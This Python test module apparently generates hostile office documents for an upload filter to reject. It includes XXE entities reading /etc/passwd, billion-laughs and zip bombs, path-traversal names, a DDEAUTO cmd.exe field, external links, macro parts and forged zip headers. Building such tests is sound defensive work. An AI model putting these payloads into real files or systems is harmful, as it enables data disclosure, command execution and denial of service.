"""Hostile office files: macros, outside links, entities, bombs, lies and names that lead out."""

import struct
import warnings
from collections.abc import Iterator

from gateways.honest import HEAD, LINKS, RELS, Members, docx_members, odf_members, packed, xlsx_members

Found = Iterator[tuple[str, bytes, bool]]
ENTITIES = {
    "laughs": '<!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    "outside": '<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "parameter": '<!DOCTYPE z [<!ENTITY % x SYSTEM "http://example.se/x.dtd"> %x;]>',
    "quadratic": '<!DOCTYPE z [<!ENTITY a "' + "a" * 50_000 + '">]>',
    "plain": "<!DOCTYPE z>",
}
NAMES = (
    "../x.xml",
    "word/../../x.xml",
    "/etc/x.xml",
    "C:/x.xml",
    "..\\x.xml",
    "a\\b.xml",
    "x\x01.xml",
    "a\u202e.xml",
    "..",
    "word/run.exe",
    "word/run.js",
    "word/page.html",
    "word/inside.docx",
    "word/inside.zip",
    "x.com",
)
PARTS = (
    "word/vbaProject.bin",
    "xl/vbaProject.bin",
    "word/vbaData.xml",
    "word/embeddings/oleObject1.bin",
    "word/activeX/activeX1.xml",
    "word/activeX/activeX1.bin",
    "xl/macrosheets/sheet1.xml",
    "Basic/Standard/M.xml",
    "Scripts/python/x.py",
    "Dialogs/a.xml",
    "xl/embeddings/Microsoft_Excel_Sheet.xlsx",
    "word/media/image1.bin",
)
OOXML_LINKS = (
    "oleObject",
    "attachedTemplate",
    "image",
    "frame",
    "externalLinkPath",
    "subDocument",
    "aFChunk",
    "package",
    "control",
    "vbaProject",
    "video",
)
OOXML_BODIES = (
    '<w:instrText xmlns:w="{w}"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText>',
    '<w:fldSimple xmlns:w="{w}" w:instr="DDE cmd x"/>',
    '<w:r xmlns:w="{w}"><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:r>',
    '<w:altChunk xmlns:w="{w}"/>',
    '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/>',
    '<x:ddeLink xmlns:x="urn:x"/>',
)
ODF_BODIES = (
    '<script:event-listener xmlns:script="urn:s" script:event-name="dom:load"/>',
    '<office:script xmlns:office="urn:o"/>',
    '<draw:image xmlns:draw="urn:d" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://example.se/x.png"/>',
    '<draw:image xmlns:draw="urn:d" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="../../x.png"/>',
    '<draw:object xmlns:draw="urn:d" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///etc/passwd"/>',
    '<draw:object-ole xmlns:draw="urn:d"/>',
    '<draw:plugin xmlns:draw="urn:d"/>',
    '<draw:floating-frame xmlns:draw="urn:d"/>',
    '<office:dde-source xmlns:office="urn:o"/>',
    '<manifest:encryption-data xmlns:manifest="urn:m"/>',
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def kinds() -> dict[str, Members]:
    """The parts of an honest file of each office kind."""
    return {
        "docx": docx_members(),
        "xlsx": xlsx_members(),
        "odt": odf_members(),
        "ods": odf_members("spreadsheet"),
    }


def office_files(eicar: bytes, program: bytes, page: bytes) -> Found:
    """Each as name, bytes, and whether it must be refused."""
    for kind, members in kinds().items():
        main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}.get(kind, "content.xml")
        yield from _entities(kind, members, main)
        yield from _bombs(kind, members, main)
        yield from _lies(kind, members)
        for name in NAMES:
            yield f"name-{len(name)}.{kind}", _safely_packed([*members.items(), (name, b"<a/>")]), True
        for name in PARTS:
            yield f"part.{kind}", packed({**members, name: b"\xd0\xcf\x11\xe0 macro"}), True
        for what in (program, page + b"<", packed({"a": b"a"}), b"%PDF-1.7", b"Rar!\x1a\7"):
            yield f"disguised.{kind}", packed({**members, "media/image1.png": what}), True
        yield f"eicar.{kind}", packed({**members, "eicar.com": eicar}), True
        yield f"eicar-in-picture.{kind}", packed({**members, "media/image1.png": eicar}), False
        drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
        yield f"script-in-drawing.{kind}", packed({**members, "media/i.svg": drawing}), True
        yield f"event-in-drawing.{kind}", packed({**members, "media/i.svg": b'<svg onload="x()"/>'}), True
        yield from _bodies(kind, members, main)
    yield from _types()


def _bodies(kind: str, members: Members, main: str) -> Found:
    for body in OOXML_BODIES if kind in ("docx", "xlsx") else ODF_BODIES:
        text = f"{HEAD}<a>{body}</a>".replace("{w}", WORD)
        yield f"running.{kind}", packed({**members, main: text.encode()}), True
        yield (
            f"running-wide.{kind}",
            packed({**members, main: text.replace("UTF-8", "UTF-16").encode("utf-16")}),
            True,
        )
    if kind in ("docx", "xlsx"):
        for link in OOXML_LINKS:
            text = (
                f'{HEAD}<Relationships xmlns="{RELS}"><Relationship Id="r9" Type="{LINKS}/{link}" '
                'Target="http://example.se/x" TargetMode=" External"/></Relationships>'
            )
            yield f"outside-{link}.{kind}", packed({**members, "word/_rels/x.xml.rels": text.encode()}), True


def _entities(kind: str, members: Members, main: str) -> Found:
    for what, declaration in ENTITIES.items():
        text = members[main].decode().replace(HEAD, "").split("?>\n")[-1]
        for name in (main, "docProps/app.xml", "media/image1.png"):
            bad = f'<?xml version="1.0"?>{declaration}{text}'
            yield f"{what}.{kind}", packed({**members, name: bad.encode()}), True
        wide = f'<?xml version="1.0" encoding="UTF-16"?>{declaration}{text}'
        yield f"{what}-wide.{kind}", packed({**members, main: wide.encode("utf-16")}), True
        loose = {**members, "xl/drawings/vmlDrawing1.vml": f"{declaration}<xml>".encode()}
        yield f"{what}-loose.{kind}", packed(loose), True


def _bombs(kind: str, members: Members, main: str) -> Found:
    big = bytes(60_000_000)
    yield f"ratio.{kind}", packed({**members, "media/a.png": big[:12_000_000]}), True
    if kind == "docx":
        yield f"total.{kind}", packed({**members, "media/a.png": big, "media/b.png": big}), True
    yield f"entries.{kind}", packed([*members.items(), *((f"a{n}.xml", b"") for n in range(1001))]), True
    inner = b"<a/>"
    for depth in range(5):
        inner = packed({f"{depth}.zip": inner})
    yield f"nested.{kind}", packed({**members, "media/a.png": inner}), True
    yield f"deep.{kind}", packed({**members, main: b"<a>" * 5_000 + b"</a>" * 5_000}), True
    yield (
        f"long-token.{kind}",
        packed({**members, main: b"<a b='" + b"x y" * 500_000 + b"'/>"}, stored=(main, "mimetype")),
        True,
    )
    yield f"twice.{kind}", _safely_packed([*members.items(), (main, b"<b/>")]), True
    yield (
        f"twice-by-case.{kind}",
        packed([*members.items(), (main.upper().replace("XML", "xml"), b"<b/>")]),
        True,
    )


def _lies(kind: str, members: Members) -> Found:
    """Tables of contents that do not say what is there."""
    whole = packed({**members, "media/a.png": b"picture" * 5000})
    table = whole.index(b"PK\x01\x02")
    last = whole.rindex(b"PK\x01\x02")
    for what, offset, value in (
        ("size-small", 24, 7),
        ("size-huge", 24, 2**32 - 2),
        ("packed-small", 20, 3),
        ("packed-huge", 20, 2**31),
        ("offset", 42, 0),
        ("offset-far", 42, 2**31),
        ("check", 16, 1),
    ):
        changed = bytearray(whole)
        struct.pack_into("<I", changed, last + offset, value)
        yield f"lie-{what}.{kind}", bytes(changed), True
    for what, offset, value in (("locked", 8, 1), ("method", 10, 12), ("method-odd", 10, 99)):
        changed = bytearray(whole)
        struct.pack_into("<H", changed, last + offset, value)
        yield f"lie-{what}.{kind}", bytes(changed), True
    link = bytearray(whole)
    struct.pack_into("<I", link, last + 38, 0o120777 << 16)
    yield f"lie-link.{kind}", bytes(link), True
    hidden = packed({"hidden.xml": b"<a/>"})
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    shifted = bytearray(whole[:table] + hidden + whole[table:])
    struct.pack_into("<I", shifted, len(shifted) - 6, table + len(hidden))
    yield f"lie-hidden-entry.{kind}", bytes(shifted), True


def _types() -> Found:
    """Other office formats under an allowed name."""
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    for kind, other in (
        ("dotm", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        ("docm", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("dotx", word.replace("document.main", "template.main")),
        ("pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
    ):
        members = docx_members()
        members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(word.encode(), other.encode())
        yield f"{kind}.docx", packed(members), True
    for other in ("presentation", "graphics", "text-template", "text-master", "base"):
        mime = f"application/vnd.oasis.opendocument.{other}".encode()
        yield f"{other}.odt", packed({**odf_members(), "mimetype": mime}), True
    yield "both.docx", packed({**docx_members(), **odf_members()}), True
    yield "late-mimetype.odt", packed(dict(reversed(odf_members().items()))), True
    yield "packed-mimetype.odt", packed(odf_members(), stored=()), True
    for part in ("_rels/.rels", "word/document.xml"):
        yield (
            "missing.docx",
            packed({key: value for key, value in docx_members().items() if key != part}),
            True,
        )
    yield (
        "missing.odt",
        packed({key: value for key, value in odf_members().items() if key != "content.xml"}),
        True,
    )


def _safely_packed(members: list[tuple[str, bytes]]) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return packed(members)
